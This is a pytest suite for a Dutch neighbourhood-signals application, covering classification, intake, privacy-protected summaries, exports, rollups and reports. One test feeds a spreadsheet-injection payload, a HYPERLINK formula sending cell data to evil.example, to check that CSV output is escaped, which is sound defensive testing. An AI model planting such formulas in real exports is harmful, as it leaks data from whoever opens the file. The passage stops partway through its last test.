"""Buurtsignaal end to end: classification, every intake path, protected summaries
(JSON, CSV, GeoJSON), scope, no personal data in analyst output, rollups equal live
counts, gebiedsscan import and informatiepositie, weekly reports."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta

import pytest

from burgerwacht.messaging import analyse
from burgerwacht.signals import cube, jobs, periods, store
from burgerwacht.signals.periods import Period, PeriodError, from_dates, parse_period
from burgerwacht.signals.taxonomy import TaxonomyError, parse, taxonomy, tokenize
from tests.helpers.signals import BINNENSTAD, EILAND, MARCH, insert, possible, seed
from tests.helpers.snapshot import all_text

PHONE = "+31612345678"


@pytest.fixture
def settings_overrides(tmp_path):
    return {"signals": {"export_dir": str(tmp_path / "exports")}}


# ------------------------------------------------------------------ classification


@pytest.mark.parametrize(
    ("text", "category"),
    [
        ("Er ligt overal zwerfvuil en afval bij de container", "zwerfafval"),
        ("bushokje is weer vernield, ruiten ingegooid", "vernieling"),
        ("Graffiti op de muur van de school", "graffiti"),
        ("Overal hondenpoep op de stoep", "hondenpoep"),
        ("Dronken mannen lallen elke avond op het plein", "dronken_mensen"),
        ("Er wordt gedeald bij het speeltuintje, veel lachgas", "drugs"),
        ("De buren draaien tot 3 uur harde muziek", "burenoverlast"),
        ("Mijn dochter werd nageroepen en lastiggevallen", "lastigvallen"),
        ("Groepje hangjongeren met scooters bij de snackbar", "hangjongeren"),
        ("Auto's rijden veel te hard in de 30 zone", "te_hard_rijden"),
        ("Busje staat dubbel geparkeerd op de stoep voor de uitrit", "parkeeroverlast"),
        ("Automobilist reed door rood en was erg agressief", "agressief_rijgedrag"),
        ("Bij de buren is vannacht ingebroken", "woninginbraak"),
        ("Oudere dame beroofd van haar tas", "straatroof"),
        ("Gewapende overval op de supermarkt", "overval"),
        ("Terras van het café is tot laat open, veel uitgaanspubliek", "horeca"),
        ("Er staat een vreemd bord in het park", "anders"),
        ("", "anders"),
        ("VERNIELING bij de ÉÉN-richtingweg", "vernieling"),  # case and accents
    ],
)
def test_classification_of_dutch_texts(text, category):
    assert taxonomy().classify(text) == category


def test_keywords_match_words_prefixes_and_phrases():
    tax = taxonomy()
    assert tokenize("Café's & één") == ["cafe", "s", "een"]
    assert tax.classify("inbrekers gezien") == "woninginbraak"  # prefix inbreker*
    assert tax.classify("hardrijders") == "te_hard_rijden"
    assert tax.classify("afvalbak") == "anders"  # 'afval' is a whole word, not a prefix


def test_municipalities_add_categories_by_configuration():
    data = {
        "groups": {"overig": {"name": "Overig"}},
        "categories": {
            "vuurwerk": {
                "group": "overig",
                "name": "Vuurwerkoverlast",
                "keywords": ["vuurwerk*", "knallen"],
                "municipalities": ["GM0363"],
            },
            "anders": {"group": "overig", "name": "Anders", "keywords": []},
        },
        "texts": {
            "nl": {k: "x" for k in ("received", "usage", "not_enrolled", "address_unknown", "no_area")}
        },
    }
    tax = parse(data)
    assert tax.classify("veel vuurwerkoverlast", "GM0363") == "vuurwerk"
    assert tax.classify("veel vuurwerkoverlast", "GM9999") == "anders"
    assert [c.code for c in tax.categories_for("GM9999")] == ["anders"]
    bad = json.loads(json.dumps(data))
    bad["categories"]["vuurwerk"]["group"] = "nope"
    with pytest.raises(TaxonomyError, match=r"categories\.vuurwerk\.group"):
        parse(bad)
    del bad["categories"]["anders"]
    with pytest.raises(TaxonomyError):
        parse(bad)


def test_periods():
    assert parse_period("2025-03") == Period(2025, "month", 3)
    assert parse_period("2025-q2").label == "2025-Q2"
    assert parse_period("2025").end == date(2025, 12, 31)
    assert Period(2025, "month", 1).previous() == Period(2024, "month", 12)
    assert Period(2025, "quarter", 1).previous() == Period(2024, "quarter", 4)
    assert from_dates(date(2025, 4, 1), date(2025, 6, 30)) == Period(2025, "quarter", 2)
    assert from_dates(date(2025, 2, 1), date(2025, 2, 28)) == Period(2025, "month", 2)
    for bad in [(date(2025, 2, 1), date(2025, 2, 27)), (date(2025, 1, 5), date(2025, 2, 4))]:
        with pytest.raises(PeriodError):
            from_dates(*bad)
    for text in ("2025-13", "2025-W01", "1999", "gisteren"):
        with pytest.raises(PeriodError):
            parse_period(text)


# ------------------------------------------------------------------ intake: API


async def test_fieldworker_records_signals_by_buurt_and_by_point(client, staff, db):
    headers = await staff("fieldworker", "GM9999")
    resp = await client.post(
        "/api/v1/signals",
        json={
            "area_code": BINNENSTAD,
            "category": "graffiti",
            "severity": 3,
            "source": "schouw",
            "observed_on": (periods.today() - timedelta(days=3)).isoformat(),
            "text": "Tags op de gevel van nummer 12",
        },
        headers=headers,
    )
    assert resp.status == 201, await resp.text()
    sig = await resp.json()
    assert sig["buurt_code"] == BINNENSTAD and sig["wijk_code"] == "WK999901"
    assert sig["category"] == "graffiti" and sig["group"] == "fysieke_verloedering"
    assert sig["point"] is None and sig["text"].startswith("Tags")
    # a point inside the Eiland enclave (in Havenkom's hole) lands in Eiland
    resp = await client.post(
        "/api/v1/signals",
        json={
            "point": {"lat": 52.05257, "lon": 5.75649},
            "category": "drugs",
            "severity": 4,
            "source": "interview",
        },
        headers=headers,
    )
    assert resp.status == 201, await resp.text()
    sig2 = await resp.json()
    assert sig2["buurt_code"] == EILAND
    assert abs(sig2["point"]["lat"] - 52.05257) < 1e-6
    assert sig2["observed_on"] == periods.today().isoformat()
    assert await db.fetchval("SELECT count(*) FROM audit_log WHERE action = 'signal.create'") == 2
    # fieldworkers read and triage
    resp = await client.get("/api/v1/signals?municipality=GM9999", headers=headers)
    listed = await resp.json()
    assert [s["id"] for s in listed["items"]] == [sig2["id"], sig["id"]]
    resp = await client.patch(
        f"/api/v1/signals/{sig['id']}", json={"category": "vernieling", "status": "closed"}, headers=headers
    )
    assert resp.status == 200, await resp.text()
    assert (await resp.json())["category"] == "vernieling"
    assert (await client.get(f"/api/v1/signals/{sig['id']}", headers=headers)).status == 200


@pytest.mark.parametrize(
    ("body", "status", "needle"),
    [
        (
            {"area_code": BINNENSTAD, "category": "graffiti", "severity": 0, "source": "schouw"},
            422,
            "severity",
        ),
        (
            {"area_code": BINNENSTAD, "category": "graffiti", "severity": 6, "source": "schouw"},
            422,
            "severity",
        ),
        ({"category": "graffiti", "severity": 2, "source": "schouw"}, 422, "exactly one"),
        (
            {
                "area_code": BINNENSTAD,
                "point": {"lat": 52.05, "lon": 5.78},
                "category": "graffiti",
                "severity": 2,
                "source": "schouw",
            },
            422,
            "exactly one",
        ),
        ({"area_code": "WK999901", "category": "graffiti", "severity": 2, "source": "schouw"}, 422, "buurt"),
        (
            {"area_code": "BU12345678", "category": "graffiti", "severity": 2, "source": "schouw"},
            422,
            "does not exist",
        ),
        ({"area_code": BINNENSTAD, "category": "ufo", "severity": 2, "source": "schouw"}, 422, "taxonomy"),
        ({"area_code": BINNENSTAD, "category": "graffiti", "severity": 2, "source": "krant"}, 422, "source"),
        (
            {
                "area_code": BINNENSTAD,
                "category": "graffiti",
                "severity": 2,
                "source": "schouw",
                "observed_on": "2999-01-01",
            },
            422,
            "future",
        ),
        (
            {"point": {"lat": 52.3, "lon": 4.9}, "category": "graffiti", "severity": 2, "source": "schouw"},
            422,
            "outside",
        ),
    ],
)
async def test_signal_validation(client, staff, db, body, status, needle):
    resp = await client.post("/api/v1/signals", json=body, headers=await staff("fieldworker", "GM9999"))
    assert resp.status == status
    assert needle in await resp.text()
    assert resp.content_type == "application/problem+json"
    assert await db.fetchval("SELECT count(*) FROM signals") == 0


async def test_intake_roles_and_scope(client, staff, db):
    body = {"area_code": BINNENSTAD, "category": "graffiti", "severity": 2, "source": "schouw"}
    assert (await client.post("/api/v1/signals", json=body)).status == 401
    assert (
        await client.post("/api/v1/signals", json=body, headers=await staff("analyst", "GM9999"))
    ).status == 403
    other = await staff("fieldworker", "GM0001")
    assert (await client.post("/api/v1/signals", json=body, headers=other)).status == 403
    assert (
        await client.post("/api/v1/signals", json=body, headers=await staff("operator", "GM9999"))
    ).status == 201
    sid = await db.fetchval("SELECT id FROM signals")
    assert (await client.get(f"/api/v1/signals/{sid}", headers=other)).status == 404
    assert (await client.get("/api/v1/signals?municipality=GM9999", headers=other)).status == 403


# ------------------------------------------------------------------ intake: SMS


async def test_signal_by_sms_home_buurt_address_and_erasure(client, sandbox, db):
    await sandbox.sms(PHONE, "AANMELDEN 9991AA 75")  # Binnenstad
    result = await sandbox.sms(PHONE, "SIGNAAL er wordt elke avond gedeald bij het speeltuintje")
    reply = result["reply"]
    assert "Bedankt" in reply and "drugsoverlast" in reply and "Binnenstad" in reply
    info = analyse(reply)
    assert info.encoding == "GSM-7" and info.segments == 1, reply
    row = await db.fetchrow("SELECT * FROM signals")
    assert row["buurt_code"] == BINNENSTAD and row["category"] == "drugs" and row["source"] == "sms"
    assert row["location"] is None and row["severity"] is None and row["created_by"] == "resident"
    # an address in the text does not move it: it counts in the sender's own buurt
    # (issue 18: a postcode in the text let anyone place signals in any buurt)
    reply = (await sandbox.sms(PHONE, "signaal: graffiti op de muur bij 9993 BL 12"))["reply"]
    row = await db.fetchrow("SELECT * FROM signals ORDER BY id DESC LIMIT 1")
    assert row["buurt_code"] == BINNENSTAD and row["category"] == "graffiti" and "Binnenstad" in reply
    # an unknown address is only text; an empty signal gets the usage
    assert "Bedankt" in (await sandbox.sms(PHONE, "SIGNAAL troep bij 9991 ZZ 999"))["reply"]
    assert "Stuur SIGNAAL gevolgd door" in (await sandbox.sms(PHONE, "SIGNAAL"))["reply"]
    assert await db.fetchval("SELECT count(*) FROM signals WHERE buurt_code = $1", BINNENSTAD) == 3
    # erasure: the number is nowhere, the signals (counts) stay
    await sandbox.sms(PHONE, "VERWIJDER")
    assert await db.fetchval("SELECT count(*) FROM signals") == 3
    everything = await all_text(db)
    assert PHONE not in everything and PHONE[3:] not in everything


async def test_signal_by_sms_needs_an_enrolled_sender(client, sandbox, db):
    result = await sandbox.sms("+31687654321", "SIGNAAL hondenpoep")
    assert "Alleen aangemelde deelnemers" in result["reply"]
    assert await db.fetchval("SELECT count(*) FROM signals") == 0


async def test_english_resident_gets_english_ack(client, sandbox, db):
    await sandbox.sms(PHONE, "AANMELDEN 9991AA 75")
    await db.execute("UPDATE residents SET language = 'en'")
    result = await sandbox.sms(PHONE, "SIGNAAL someone vernield the bus stop")
    assert result["reply"].startswith("Thank you")


# ------------------------------------------------------------------ summaries


async def test_summary_suppresses_rounds_and_compares(client, staff, db):
    await seed(db)
    headers = await staff("analyst", "GM9999")
    resp = await client.get(
        "/api/v1/signals/summary?municipality=GM9999&level=buurt&period=2025-03&category=graffiti",
        headers=headers,
    )
    assert resp.status == 200, await resp.text()
    doc = await resp.json()
    assert doc["period"] == {"label": "2025-03", "kind": "month", "from": "2025-03-01", "to": "2025-03-31"}
    assert doc["previous_period"]["label"] == "2025-02" and doc["next"] is None
    rows = {r["area_code"]: r for r in doc["items"]}
    assert len(rows) == 12
    b = rows[BINNENSTAD]
    # 23 and 14 signals: with the cell-key noise (-2..+2) before rounding, 20 or 25 and 10 or 15
    assert b["count"] in possible(23) - {None} and not b["suppressed"]
    assert b["previous_count"] in possible(14) - {None} and b["change"] == b["count"] - b["previous_count"]
    assert b["change_pct"] == round(100.0 * b["change"] / b["previous_count"], 1)
    assert b["mean_severity"] == 3.0
    small = rows["BU99990103"]
    assert small["count"] is None and small["suppressed"]
    assert small["mean_severity"] is None and small["change"] is None and small["share"] is None
    for r in doc["items"]:
        assert r["count"] is None or (r["count"] % 5 == 0 and r["count"] >= 5)
        assert set(r) >= {
            "area_code",
            "area_name",
            "category",
            "count",
            "suppressed",
            "change",
            "mean_severity",
        }
    # the wijk total would be 23 + 9 + 3 = 35 -> with two buurten visible it would show the
    # third; the published wijk figure must not let the hidden buurt be worked out exactly
    resp = await client.get(
        "/api/v1/signals/summary?municipality=GM9999&level=wijk&period=2025-03&category=graffiti",
        headers=headers,
    )
    wijk = {r["area_code"]: r for r in (await resp.json())["items"]}["WK999901"]
    if wijk["count"] is not None and rows["BU99990102"]["count"] is not None:
        low = (wijk["count"] - 2) - (b["count"] + 2) - (rows["BU99990102"]["count"] + 2)
        high = (wijk["count"] + 2) - (b["count"] - 2) - (rows["BU99990102"]["count"] - 2)
        assert high - low >= 2
    # quarter and year via from/to; arbitrary ranges are refused
    resp = await client.get(
        "/api/v1/signals/summary?municipality=GM9999&level=gemeente&from=2025-01-01&to=2025-03-31&group=all",
        headers=headers,
    )
    assert resp.status == 200
    gm = (await resp.json())["items"][0]
    assert (
        gm["area_code"] == "GM9999"
        and gm["category"] == "all"
        and gm["count"] in possible(64)
        and gm["share"] == 1.0
    )
    resp = await client.get(
        "/api/v1/signals/summary?municipality=GM9999&from=2025-03-01&to=2025-03-15", headers=headers
    )
    assert resp.status == 422 and "calendar month, quarter or year" in await resp.text()


async def test_summary_formats(client, staff, db):
    await seed(db)
    headers = await staff("analyst", "GM9999")
    url = "/api/v1/signals/summary?municipality=GM9999&level=wijk&period=2025-Q1&group=sociale_overlast"
    resp = await client.get(url, headers={**headers, "Accept": "text/csv"})
    assert resp.status == 200 and resp.content_type == "text/csv"
    table = list(csv.DictReader(io.StringIO(await resp.text())))
    assert (
        len(table) == 4 and table[0]["area_code"] == "WK999901" and table[0]["category"] == "sociale_overlast"
    )
    resp = await client.get(url + "&format=geojson", headers=headers)
    assert resp.status == 200 and resp.content_type == "application/geo+json"
    geo = await resp.json()
    assert geo["type"] == "FeatureCollection" and len(geo["features"]) == 4
    lon, lat = geo["features"][0]["geometry"]["coordinates"][0][0]
    assert 5.7 < lon < 5.9 and 52.0 < lat < 52.1  # WGS84, lon/lat order
    assert geo["features"][0]["properties"]["area_code"] == "WK999901"


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 1234", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"],
)
async def test_summary_csv_cannot_start_a_spreadsheet_formula(client, staff, db, name):
    await seed(db)
    # an area name as an imported map may carry it
    await db.execute("UPDATE areas SET name = $1 WHERE code = 'WK999901'", name)
    headers = {**(await staff("analyst", "GM9999")), "Accept": "text/csv"}
    url = "/api/v1/signals/summary?municipality=GM9999&level=wijk&period=2025-Q1&group=sociale_overlast"
    resp = await client.get(url, headers=headers)
    assert resp.status == 200
    table = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
    row = next(r for r in table if r["area_code"] == "WK999901")
    assert row["area_name"] == "'" + name
    for r in table:  # numbers stay numbers, negative ones included
        for column in ("count", "previous_count", "change", "change_pct", "share"):
            assert not r[column].startswith("'"), (column, r[column])


def test_csv_writer_escapes_text_not_numbers():
    from burgerwacht import csvsafe

    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerow(["=1+1", -3, -2.5, "-", "Binnenstad", "a=b", None])
    assert out.getvalue() == "'=1+1,-3,-2.5,'-,Binnenstad,a=b,\n"


async def test_trend_points_are_the_monthly_summary_rows(client, staff, db):
    """One request for an area's months (the console's trend made twelve): each point
    is exactly what the summary of that month publishes for the area, suppression
    included, and the request is audited once."""
    await seed(db)
    headers = await staff("analyst", "GM9999")
    base = "/api/v1/signals/trend?municipality=GM9999"
    resp = await client.get(f"{base}&area=BU99990103&category=graffiti&to=2025-03&months=4", headers=headers)
    assert resp.status == 200, await resp.text()
    doc = await resp.json()
    assert (doc["area_code"], doc["level"], doc["category"], doc["group"]) == (
        "BU99990103",
        "buurt",
        "graffiti",
        "fysieke_verloedering",
    )
    assert [p["period"] for p in doc["points"]] == ["2024-12", "2025-01", "2025-02", "2025-03"]
    for point in doc["points"]:
        summary = await client.get(
            f"/api/v1/signals/summary?municipality=GM9999&level=buurt&period={point['period']}&category=graffiti",
            headers=headers,
        )
        row = next(i for i in (await summary.json())["items"] if i["area_code"] == "BU99990103")
        assert (point["count"], point["suppressed"], point["mean_severity"]) == (
            row["count"],
            row["suppressed"],
            row["mean_severity"],
        )
    assert doc["points"][-1] == {
        "period": "2025-03",
        "count": None,
        "suppressed": True,
        "mean_severity": None,
    }
    # the default: the whole municipality, every category, the last 12 months
    total = await (await client.get(f"{base}&to=2025-03", headers=headers)).json()
    assert (total["area_code"], total["level"], total["category"]) == ("GM9999", "gemeente", "all")
    assert len(total["points"]) == 12 and total["points"][-1]["count"] in possible(50)  # 50 signals in March
    assert await db.fetchval("SELECT count(*) FROM audit_log WHERE action = 'signals.trend'") == 2
    # a buurt no longer in the area data has a trend in the years it has signals
    await db.execute(
        "INSERT INTO signals (public_id, municipality_code, buurt_code, category, observed_on, source, created_by) "
        "SELECT 'bs-gone-' || g, 'GM9999', 'BU99990999', 'graffiti', DATE '2024-12-05', 'schouw', 'test' "
        "FROM generate_series(1, 8) g"
    )
    gone = await client.get(f"{base}&area=BU99990999&category=graffiti&to=2025-02&months=3", headers=headers)
    assert gone.status == 200, await gone.text()
    points = (await gone.json())["points"]
    december = await client.get(
        "/api/v1/signals/summary?municipality=GM9999&level=buurt&period=2024-12&category=graffiti",
        headers=headers,
    )
    row = next(i for i in (await december.json())["items"] if i["area_code"] == "BU99990999")
    assert points[0] == {
        "period": "2024-12",
        "count": row["count"],
        "suppressed": row["suppressed"],
        "mean_severity": None,
    }
    assert [p["count"] for p in points[1:]] == [None, None]
    # scope and bad input
    assert (await client.get(f"{base}&to=2025-03", headers=await staff("analyst", "GM0001"))).status == 403
    bad_month = await (await client.get(f"{base}&to=2025-13", headers=headers)).json()
    assert bad_month["errors"][0]["loc"] == "query.to" and "13" in bad_month["detail"]
    for bad in (
        "&months=0",
        "&months=37",
        "&to=2025",
        "&to=2025-13",
        "&area=BU00010101",
        "&category=x&group=all",
    ):
        resp = await client.get(base + bad, headers=headers)
        assert resp.status == 422, (bad, resp.status)
        assert resp.content_type == "application/problem+json"


async def test_analyst_scope_and_roles(client, staff, db):
    await seed(db)
    url = "/api/v1/signals/summary?municipality=GM9999&period=2025-03"
    assert (await client.get(url)).status == 401
    assert (await client.get(url, headers=await staff("analyst", "GM0001"))).status == 403
    assert (await client.get(url, headers=await staff("fieldworker", "GM9999"))).status == 403
    assert (await client.get(url, headers=await staff("analyst", "GM0001", "GM9999"))).status == 200
    assert await db.fetchval("SELECT count(*) FROM audit_log WHERE action = 'signals.summary'") == 1


# A phone number starts a token: "0.069" (a share) or "2026-06-01" (a date) is not one.
PHONE_RE = re.compile(r"(?<![\w.-])(\+31|0031|06)[\s-]?\d")
POINT_RE = re.compile(r"\b(1[78]\d{4}|4[45]\d{4})\.\d+|52\.0\d{3,}")


async def test_no_personal_data_in_any_analyst_output(client, sandbox, staff, db):
    await seed(db)
    await sandbox.sms(PHONE, "AANMELDEN 9991AA 75")
    await sandbox.sms(PHONE, "SIGNAAL mijn nummer is 0612345678, graffiti bij mij")
    fw = await staff("fieldworker", "GM9999")
    await client.post(
        "/api/v1/signals",
        json={
            "point": {"lat": 52.05545, "lon": 5.78865},
            "category": "drugs",
            "severity": 5,
            "source": "interview",
            "text": "Bel mevrouw Jansen op +31 6 12345678",
        },
        headers=fw,
    )
    await jobs.run_rollup(db)
    headers = await staff("analyst", "GM9999")
    outputs = []
    for level in ("buurt", "wijk", "gemeente"):
        for extra in ("", "&group=all", "&category=drugs"):
            for period in ("2025-03", "2025-Q1", "2025", periods.today().strftime("%Y-%m")):
                url = f"/api/v1/signals/summary?municipality=GM9999&level={level}&period={period}{extra}"
                for accept in ("application/json", "text/csv"):
                    resp = await client.get(url, headers={**headers, "Accept": accept})
                    assert resp.status == 200
                    outputs.append(await resp.text())
    for area in ("GM9999", "WK999901", "BU99990101"):
        resp = await client.get(
            f"/api/v1/signals/trend?municipality=GM9999&area={area}&to={periods.today().strftime('%Y-%m')}",
            headers=headers,
        )
        assert resp.status == 200
        outputs.append(await resp.text())
    resp = await client.post(
        "/api/v1/gebiedsscan",
        data="area_code,theme,period_start,period_end,registered_count\n"
        "BU99990101,drugsoverlast,2025-03-01,2025-03-31,7\n",
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert resp.status == 200, await resp.text()
    outputs.append(
        await (
            await client.get("/api/v1/informatiepositie?municipality=GM9999&period=2025-03", headers=headers)
        ).text()
    )
    await jobs.weekly_report(client.app)
    reports = await (await client.get("/api/v1/reports?municipality=GM9999", headers=headers)).json()
    for r in reports["items"]:
        outputs.append(await (await client.get(f"/api/v1/reports/{r['id']}", headers=headers)).text())
    blob = "\n".join(outputs)
    m = PHONE_RE.search(blob)
    assert not m, blob[max(0, m.start() - 200) : m.end() + 100]
    assert (
        "12345678" not in blob
        and "Jansen" not in blob
        and "geheime" not in blob
        and "graffiti bij mij" not in blob
    )
    assert not POINT_RE.search(blob), POINT_RE.search(blob)
    assert '"text"' not in blob and "location" not in blob


# ------------------------------------------------------------------ rollups


async def test_rollup_equals_live_counts(client, staff, db, settings):
    await insert(
        db,
        [
            (BINNENSTAD, "graffiti", date(2025, 1, 31), 2, 4),
            (BINNENSTAD, "graffiti", date(2025, 2, 1), 3, 7),
            ("BU99990102", "drugs", date(2025, 2, 14), None, 6),
            (EILAND, "overval", date(2025, 12, 31), 5, 2),
        ],
    )
    start, end = date(2025, 1, 1), date(2026, 1, 1)

    async def both():
        live = sorted(map(tuple, await store.month_counts(db, "GM9999", start, end, live=True)))
        rolled = sorted(map(tuple, await store.month_counts(db, "GM9999", start, end)))
        return live, rolled

    live, rolled = await both()
    assert live == rolled and sum(r[3] for r in live) == 19  # nothing rolled up yet: all read live
    assert await store.dirty_day_count(db) == 4
    assert await jobs.run_rollup(db) == {"days": 4, "months": 3}
    assert await store.dirty_day_count(db) == 0
    live, rolled = await both()
    assert live == rolled
    assert sorted(map(tuple, await store.day_counts(db, "GM9999", start, end, live=True))) == sorted(
        map(tuple, await store.day_counts(db, "GM9999", start, end, live=False))
    )
    # changes after the rollup (new, reclassified, deleted) are read live until the next run
    await insert(db, [(BINNENSTAD, "graffiti", date(2025, 2, 1), 1, 3)])
    await db.execute("UPDATE signals SET category = 'vernieling' WHERE category = 'drugs'")
    await db.execute("DELETE FROM signals WHERE category = 'overval'")
    live, rolled = await both()
    assert live == rolled
    await jobs.run_rollup(db)
    live, rolled = await both()
    assert live == rolled
    # the protected cube is the same whichever way it is read
    a = await cube.cube(db, settings, "GM9999", 2025, live=True)
    b = await cube.cube(db, settings, "GM9999", 2025)
    assert (a.protected.count == b.protected.count).all()


async def test_rollup_job_respects_its_interval(client, db):
    await insert(db, [(BINNENSTAD, "graffiti", date(2025, 1, 5), 2, 1)])
    assert (await jobs.rollup(client.app))["days"] == 1
    await insert(db, [(BINNENSTAD, "graffiti", date(2025, 1, 6), 2, 1)])
    assert await jobs.rollup(client.app) == {"skipped": True}


# ------------------------------------------------------------------ gebiedsscan


async def test_gebiedsscan_reports_errors_per_line_and_imports_nothing(client, staff, db):
    headers = {**(await staff("analyst", "GM9999")), "Content-Type": "text/csv"}
    body = (
        "area_code;theme;period_start;period_end;registered_count\n"
        "BU99990101;woninginbraak;2025-01-01;2025-03-31;12\n"
        "BU99999999;woninginbraak;2025-01-01;2025-03-31;3\n"
        "BU99990102;fietsendiefstal;2025-01-01;2025-03-31;3\n"
        "BU99990103;woninginbraak;2025-03-31;2025-01-01;3\n"
        "BU99990201;woninginbraak;2025-01-01;2025-03-31;-4\n"
        "BU99990101;woninginbraak;2025-01-01;2025-03-31;13\n"
        "WK999901;verkeer;gisteren;2025-03-31;5\n"
    )
    resp = await client.post("/api/v1/gebiedsscan", data=body, headers=headers)
    assert resp.status == 422 and resp.content_type == "application/problem+json"
    problem = await resp.json()
    by_line = {e["line"]: e for e in problem["errors"]}
    assert sorted(by_line) == [3, 4, 5, 6, 7, 8]
    assert "unknown area" in by_line[3]["msg"] and by_line[4]["column"] == "theme"
    assert by_line[5]["column"] == "period_end" and by_line[6]["column"] == "registered_count"
    assert "duplicate of line 2" in by_line[7]["msg"] and by_line[8]["column"] == "period_start"
    assert await db.fetchval("SELECT count(*) FROM gebiedsscan") == 0
    # wrong content type, wrong header, other municipality
    assert (await client.post("/api/v1/gebiedsscan", json={}, headers=await staff("analyst"))).status == 415
    resp = await client.post("/api/v1/gebiedsscan", data="a,b\n1,2\n", headers=headers)
    assert resp.status == 422 and "header lacks" in await resp.text()
    other = {**(await staff("analyst", "GM0001")), "Content-Type": "text/csv"}
    resp = await client.post(
        "/api/v1/gebiedsscan", data=body.splitlines()[0] + "\n" + body.splitlines()[1], headers=other
    )
    assert resp.status == 422 and "outside your scope" in await resp.text()


async def test_informatiepositie_side_by_side_with_mismatch_and_priorities(client, staff, db):
    await insert(
        db,
        [
            (BINNENSTAD, "woninginbraak", MARCH, 5, 30),  # many signals, few registrations
            ("BU99990102", "woninginbraak", MARCH, 4, 2),  # few signals, many registrations
            ("BU99990103", "woninginbraak", MARCH, 4, 11),
            # 11, not 8: always published whatever the cell-key noise (8 could be hidden)
            (BINNENSTAD, "drugs", MARCH, 4, 11),
        ],
    )
    headers = await staff("analyst", "GM9999")
    csv_body = "area_code,theme,period_start,period_end,registered_count\n" + "\n".join(
        [
            "BU99990101,woninginbraak,2025-01-01,2025-03-31,2",
            "BU99990102,woninginbraak,2025-01-01,2025-03-31,40",
            # 11 and 40 are always published whatever the cell-key noise (9 could be hidden)
            "BU99990103,woninginbraak,2025-01-01,2025-03-31,11",
            "BU99990101,drugsoverlast,2025-01-01,2025-03-31,8",
            "BU99990101,woninginbraak,2024-01-01,2024-12-31,99",
        ]
    )
    resp = await client.post(
        "/api/v1/gebiedsscan", data=csv_body, headers={**headers, "Content-Type": "text/csv"}
    )
    assert resp.status == 200, await resp.text()
    assert (await resp.json()) == {
        "rows": 5,
        "inserted": 5,
        "updated": 0,
        "replaced": 0,
        "municipalities": ["GM9999"],
    }
    resp = await client.get("/api/v1/informatiepositie?municipality=GM9999&period=2025-Q1", headers=headers)
    assert resp.status == 200, await resp.text()
    doc = await resp.json()
    rows = {(r["area_code"], r["theme"]): r for r in doc["items"]}
    b = rows[(BINNENSTAD, "woninginbraak")]
    # 2 registrations are below k: hidden like a signal count, and no flag computed from it
    assert b["signals"] in possible(30) and b["registered"] is None and b["registered_suppressed"]
    assert b["registered_status"] == "suppressed" and b["mismatch"] == "insufficient_data"
    s = rows[("BU99990102", "woninginbraak")]
    assert s["signals"] is None and s["signals_suppressed"] and s["registered"] in possible(40)
    assert s["mismatch"] == "not_bothered_or_not_reached"
    assert rows[("BU99990103", "woninginbraak")]["mismatch"] == "in_line"
    # buurt rows answer the wijk and the gemeente too (sums, protected like every cell)
    assert {r["level"] for r in doc["items"]} == {"buurt", "wijk", "gemeente"}
    for r in doc["items"]:
        assert r["registered"] is None or (r["registered"] >= 5 and r["registered"] % 5 == 0), r
    prio = doc["priorities"]
    assert [p["rank"] for p in prio] == list(range(1, len(prio) + 1))
    assert [p["score"] for p in prio] == sorted((p["score"] for p in prio), reverse=True)
    buurten = [(p["area_code"], p["theme"]) for p in prio if p["level"] == "buurt"]
    assert buurten[0] == (BINNENSTAD, "drugsoverlast")  # weight 1.5, all of it
    assert {(BINNENSTAD, "woninginbraak"), ("BU99990102", "woninginbraak")} <= set(buurten[:4])
    assert all(p["level"] != "gemeente" and p["reason"] for p in prio)
    # a re-import of a stored period is refused unless replace=true, which replaces it
    again = csv_body.splitlines()[0] + "\n" + csv_body.splitlines()[1][:-1] + "3"
    resp = await client.post(
        "/api/v1/gebiedsscan", data=again, headers={**headers, "Content-Type": "text/csv"}
    )
    assert resp.status == 422 and (await resp.json())["errors"][0]["line"] == 2
    resp = await client.post(
        "/api/v1/gebiedsscan?replace=true", data=again, headers={**headers, "Content-Type": "text/csv"}
    )
    assert (await resp.json())["updated"] == 1
    assert (
        await client.get("/api/v1/informatiepositie?municipality=GM0001&period=2025", headers=headers)
    ).status == 403


# ------------------------------------------------------------------ reports


async def test_weekly_report_is_stored_written_and_listed(client, staff, db, settings):
    last_month = periods.last_complete_month(periods.today())
    await insert(db, [(BINNENSTAD, "graffiti", last_month.start + timedelta(days=2), 3, 12)])
    result = await jobs.weekly_report(client.app)
    assert result == {"reports": 1}
    headers = await staff("analyst", "GM9999")
    listed = await (await client.get("/api/v1/reports", headers=headers)).json()
    assert len(listed["items"]) == 1 and listed["next"] is None
    rep = listed["items"][0]
    assert rep["municipality"] == "GM9999" and rep["kind"] == "weekly" and rep["label"].count("-W") == 1
    assert rep["period"]["from"] == last_month.start.isoformat()
    detail = await (await client.get(f"/api/v1/reports/{rep['id']}", headers=headers)).json()
    items = detail["content"]["items"]
    b = next(i for i in items if i["area_code"] == BINNENSTAD and i["category"] == "graffiti")
    assert b["count"] in possible(12) - {None}
    files = list((settings.signals.export_dir / "GM9999").glob("*.csv"))
    assert len(files) == 1 and files[0].name == rep["csv_file"]
    text = files[0].read_text(encoding="utf-8")
    assert text.startswith("area_code,area_name,level,category")
    resp = await client.get(f"/api/v1/reports/{rep['id']}", headers={**headers, "Accept": "text/csv"})
    assert resp.content_type == "text/csv" and (await resp.text()).replace("\r\n", "\n") == text.replace(
        "\r\n", "\n"
    )
    other = await staff("analyst", "GM0001")
    assert (await client.get(f"/api/v1/reports/{rep['id']}", headers=other)).status == 404
    assert (await (await client.get("/api/v1/reports", headers=other)).json())["items"] == []


def test_period_previous_of_equal_length():
    for p in (Period(2025, "month", 3), Period(2025, "quarter", 1), Period(2025, "year", 1)):
        prev = p.previous()
        assert prev.end + timedelta(days=1) == p.start and prev.kind == p.kind


async def test_import_gebiedsscan_command(db, db_url, tmp_path):
    import asyncio
    import os
    import sys

    good = tmp_path / "scan.csv"
    good.write_text(
        "area_code,theme,period_start,period_end,registered_count\nWK999901,verkeer,2025-01-01,2025-12-31,17\n",
        encoding="utf-8",
    )
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "area_code,theme,period_start,period_end,registered_count\nWK999901,nope,x,y,z\n", encoding="utf-8"
    )
